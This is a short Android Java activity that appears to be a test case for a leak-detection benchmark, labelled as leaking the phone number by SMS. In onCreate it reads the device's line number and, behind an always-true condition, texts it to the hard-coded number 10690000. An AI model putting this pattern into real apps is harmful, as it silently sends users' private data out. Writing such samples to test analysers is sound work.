// about       A branch on numbers that are known is taken; it sends.
// leak        PHONE_NUMBER sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  private int level = 3;

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    level = level * 2 + 1;
    // Seven.
    if (level % 4 == 3) {
      SmsManager.getDefault().sendTextMessage("10690000", null, phone.getLine1Number(), null, null);
    }
  }
}
